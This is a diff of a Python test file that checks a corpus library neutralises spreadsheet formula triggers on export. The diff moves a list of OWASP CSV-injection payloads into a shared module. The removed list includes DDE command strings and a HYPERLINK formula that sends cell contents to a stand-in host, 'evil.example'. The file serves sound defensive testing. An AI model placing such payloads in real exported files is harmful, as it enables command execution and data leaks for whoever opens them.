@@ -6,7 +6,6 @@ begins with one of OWASP's formula triggers (= + - @ tab CR). JSONL and Parquet 
 
 from __future__ import annotations
 
-import csv
 import json
 
 import pandas as pd
@@ -14,22 +13,9 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from bench.reliability_ops import OWASP_PAYLOADS, live_cells
 from qpr.data.corpus import read_cluster_file, read_table, write_cluster_file, write_table
 from qpr.data.spreadsheet import TRIGGERS, neutralise, restore
-
-# OWASP "CSV Injection" examples and their variants, plus texts that already begin with a quote.
-OWASP_PAYLOADS = [
-    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")', "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")",
-    "\t=1+1", "\r=1+1", "\r\n=1+1", "=\t1", "-1", "+44 20 7946 0000", "@user what is this?", "'=1+1", "''=1+1", "'",
-    "'hello", "=", "==", "=-=+@", "how do i learn python? =1+1",
-]
-
-
-def live_cells(path, sep: str) -> list[str]:
-    """The cells of the file at ``path`` that a spreadsheet would evaluate."""
-    with open(path, newline="", encoding="utf-8") as handle:
-        return [cell for row in csv.reader(handle, delimiter=sep) for cell in row if cell.startswith(TRIGGERS)]
 
 
 @pytest.mark.parametrize("suffix, sep", [(".csv", ","), (".tsv", "\t")])
